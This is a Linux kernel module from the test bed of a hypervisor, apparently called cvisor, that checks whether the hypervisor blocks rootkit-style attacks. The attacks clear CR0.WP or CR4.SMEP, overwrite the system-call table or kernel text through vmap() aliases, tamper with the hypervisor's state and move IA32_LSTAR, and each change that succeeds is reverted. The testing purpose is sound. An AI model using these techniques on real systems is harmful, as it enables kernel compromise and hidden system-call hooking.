// SPDX-License-Identifier: GPL-2.0
// tb_attack.ko: the attacks of the test bed's protect=1 cycle, made from
// kernel mode the way a kernel exploit would, each checked and reported on
// one line "tb_attack: <attack>: refused (...)" or "tb_attack: <attack>:
// SUCCEEDED (...)".  Whatever succeeds is undone at once, so a failing run
// leaves the kernel as it was.  sys_call_table is not exported: the loader
// passes its address from System.map (syscall_table=0x...), and the address
// of cvisor's exit trace flag from /sys/kernel/debug/cvisor/protect_self
// (cvisor_trace=0x...).
//
//   cr0-wp      a raw MOV to CR0 clearing WP, then a write to the
//               system-call table through its own (read-only) mapping
//   syscall-alias  a write to the system-call table through a writable
//               vmap() alias of its physical page
//   cr4-smep    a raw MOV to CR4 clearing SMEP (skipped if SMEP is off)
//   text-alias  a byte of a kernel function (simple_strtoull) patched
//               through a writable vmap() alias of its physical page
//   cvisor-state   cvisor's exit trace flag (a variable of cvisor.ko, in
//               its state pages) set to "print every exit", through the
//               module's own writable mapping and through a vmap() alias
//   lstar       a raw WRMSR moving IA32_LSTAR, the 64-bit system-call
//               entry point, 64 bytes on (with interrupts off, and put
//               back at once if it moved)
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <asm/msr.h>
#include <asm/processor-flags.h>

static unsigned long syscall_table;
module_param(syscall_table, ulong, 0444);
MODULE_PARM_DESC(syscall_table, "the address of sys_call_table (System.map)");
static unsigned long cvisor_trace;
module_param(cvisor_trace, ulong, 0444);
MODULE_PARM_DESC(cvisor_trace, "the address of cvisor.ko's exit trace flag (debugfs cvisor/protect_self)");

static unsigned long raw_read_cr0(void)
{
	unsigned long v;

	asm volatile("mov %%cr0, %0" : "=r"(v));
	return v;
}

static void raw_write_cr0(unsigned long v)
{
	asm volatile("mov %0, %%cr0" : : "r"(v) : "memory");
}

static unsigned long raw_read_cr4(void)
{
	unsigned long v;

	asm volatile("mov %%cr4, %0" : "=r"(v));
	return v;
}

static void raw_write_cr4(unsigned long v)
{
	asm volatile("mov %0, %%cr4" : : "r"(v) : "memory");
}

/* A writable mapping of the page holding kernel-image address addr. */
static void *writable_alias(unsigned long addr, struct page **page)
{
	*page = pfn_to_page(__pa_symbol(addr) >> PAGE_SHIFT);
	return vmap(page, 1, VM_MAP, PAGE_KERNEL);
}

/* A write through the kernel's own mapping that a page fault turns into
 * -EFAULT (an exception-table fixup, as copy_to_kernel_nofault does; that
 * one is not exported to modules here). */
static long write_nofault(unsigned long *dst, unsigned long value)
{
	pagefault_disable();
	__put_kernel_nofault(dst, &value, unsigned long, fault);
	pagefault_enable();
	return 0;
fault:
	pagefault_enable();
	return -EFAULT;
}

static int attacks_succeeded;

static void report(const char *attack, bool refused, const char *what)
{
	pr_info("tb_attack: %s: %s (%s)\n", attack, refused ? "refused" : "SUCCEEDED", what);
	if (!refused)
		attacks_succeeded++;
}

static void attack_cr0_wp(void)
{
	unsigned long cr0 = raw_read_cr0(), after, *entry = (unsigned long *)syscall_table;
	unsigned long old = READ_ONCE(*entry), fake = old ^ 0x1000;
	long err;

	raw_write_cr0(cr0 & ~X86_CR0_WP);
	after = raw_read_cr0();
	err = write_nofault(entry, fake);
	if (READ_ONCE(*entry) != old)
		write_nofault(entry, old);
	if (!(after & X86_CR0_WP))
		raw_write_cr0(cr0);
	report("cr0-wp", (after & X86_CR0_WP) && err && READ_ONCE(*entry) == old,
	       (after & X86_CR0_WP) ? "CR0.WP stayed set; the table write faulted" :
				      "CR0.WP was cleared");
}

static void attack_syscall_alias(void)
{
	unsigned long *entry = (unsigned long *)syscall_table, old = READ_ONCE(*entry);
	struct page *page;
	u8 *alias = writable_alias(syscall_table, &page);
	unsigned long *alias_entry;

	if (!alias) {
		report("syscall-alias", false, "vmap failed: the attack could not be made");
		return;
	}
	alias_entry = (unsigned long *)(alias + offset_in_page(syscall_table));
	WRITE_ONCE(*alias_entry, old ^ 0x1000);
	if (READ_ONCE(*entry) != old)
		WRITE_ONCE(*alias_entry, old);
	vunmap(alias);
	report("syscall-alias", READ_ONCE(*entry) == old,
	       READ_ONCE(*entry) == old ? "sys_call_table[0] unchanged" : "sys_call_table[0] changed");
}

static void attack_cr4_smep(void)
{
	unsigned long cr4 = raw_read_cr4(), after, flags;

	if (!(cr4 & X86_CR4_SMEP)) {
		pr_info("tb_attack: cr4-smep: skipped (SMEP is off on this CPU)\n");
		return;
	}
	local_irq_save(flags);
	raw_write_cr4(cr4 & ~X86_CR4_SMEP);
	after = raw_read_cr4();
	if (!(after & X86_CR4_SMEP))
		raw_write_cr4(cr4);
	local_irq_restore(flags);
	report("cr4-smep", after & X86_CR4_SMEP,
	       (after & X86_CR4_SMEP) ? "CR4.SMEP stayed set" : "CR4.SMEP was cleared");
}

static void attack_text_alias(void)
{
	unsigned long target = (unsigned long)simple_strtoull;
	u8 old = READ_ONCE(*(u8 *)target);
	struct page *page;
	u8 *alias = writable_alias(target, &page);
	volatile u8 *alias_byte;

	if (!alias) {
		report("text-alias", false, "vmap failed: the attack could not be made");
		return;
	}
	alias_byte = alias + offset_in_page(target);
	*alias_byte = 0xCC; /* INT3 */
	if (READ_ONCE(*(u8 *)target) != old)
		*alias_byte = old;
	vunmap(alias);
	report("text-alias", READ_ONCE(*(u8 *)target) == old,
	       READ_ONCE(*(u8 *)target) == old ? "simple_strtoull unchanged" : "simple_strtoull changed");
}

/* cvisor's enum exit_trace (core/exit/exit.h): print every exit. */
#define CVISOR_EXIT_TRACE_PRINT 2

static void attack_cvisor_state(void)
{
	int *flag = (int *)cvisor_trace, old = READ_ONCE(*flag);
	struct page *page = vmalloc_to_page(flag);
	int *alias_flag;
	u8 *alias;
	bool direct_kept, alias_kept;

	/* The module's own mapping of its data is writable in the kernel's
	 * page tables: only cvisor's EPT can refuse this. */
	WRITE_ONCE(*flag, CVISOR_EXIT_TRACE_PRINT);
	direct_kept = READ_ONCE(*flag) == old;
	if (!direct_kept)
		WRITE_ONCE(*flag, old);
	alias = page ? vmap(&page, 1, VM_MAP, PAGE_KERNEL) : NULL;
	if (!alias) {
		report("cvisor-state", false, "vmap failed: the attack could not be made");
		return;
	}
	alias_flag = (int *)(alias + offset_in_page(flag));
	WRITE_ONCE(*alias_flag, CVISOR_EXIT_TRACE_PRINT);
	alias_kept = READ_ONCE(*flag) == old;
	if (!alias_kept)
		WRITE_ONCE(*alias_flag, old);
	vunmap(alias);
	report("cvisor-state", direct_kept && alias_kept,
	       direct_kept && alias_kept ? "cvisor's exit trace flag unchanged by both writes"
	       : direct_kept ? "cvisor's exit trace flag changed through a vmap() alias"
			     : "cvisor's exit trace flag changed through its own mapping");
}

static void attack_lstar(void)
{
	unsigned long flags;
	u64 old, after;

	local_irq_save(flags);
	rdmsrl(MSR_LSTAR, old);
	wrmsrl(MSR_LSTAR, old + 64);
	rdmsrl(MSR_LSTAR, after);
	if (after != old)
		wrmsrl(MSR_LSTAR, old);
	local_irq_restore(flags);
	report("lstar", after == old, after == old ? "IA32_LSTAR unchanged" : "IA32_LSTAR moved");
}

static int __init tb_attack_init(void)
{
	if (!syscall_table || !cvisor_trace) {
		pr_err("tb_attack: syscall_table=<address of sys_call_table> and cvisor_trace=<address "
		       "of cvisor's exit trace flag> are required\n");
		return -EINVAL;
	}
	attack_cr0_wp();
	attack_syscall_alias();
	attack_cr4_smep();
	attack_text_alias();
	attack_cvisor_state();
	attack_lstar();
	pr_info("tb_attack: done, %d attack(s) succeeded\n", attacks_succeeded);
	return 0;
}

static void __exit tb_attack_exit(void)
{
}

module_init(tb_attack_init);
module_exit(tb_attack_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("cvisor Linux test bed: kernel-mode attacks on protect=1");
